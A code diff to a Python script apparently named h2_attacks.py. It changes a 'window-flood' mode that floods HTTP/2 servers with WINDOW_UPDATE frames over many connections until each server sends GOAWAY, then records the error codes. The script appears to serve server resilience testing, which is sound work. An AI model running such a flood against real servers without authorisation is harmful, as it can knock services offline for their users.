@@ -15,7 +15,8 @@ usage:
       line comes on stdin reads what each HTTP/1.1 connection holds up to its end.
   h2_attacks.py window-flood HOST:PORT CONNS SECONDS
       CONNS connections sending WINDOW_UPDATE(+1) frames on the connection as fast as they
-      can for at most SECONDS: how each ended (the GOAWAY's error code), frames sent.
+      can until the server says GOAWAY, for at most SECONDS: how each ended (the GOAWAY's
+      error code and debug data), frames sent.
 """
 import json
 import select
@@ -104,9 +105,10 @@ def window_flood(url, conns, seconds):
     batch = frame * 4096
     sent = [0] * conns
     end = time.monotonic() + seconds
-    while time.monotonic() < end and any(c.closed is None for c in cs):
+    flooding = lambda c: c.closed is None and c.goaway is None  # noqa: E731
+    while time.monotonic() < end and any(flooding(c) for c in cs):
         for i, c in enumerate(cs):
-            if c.closed is not None:
+            if not flooding(c):
                 continue
             try:
                 c.sock.sendall(batch)
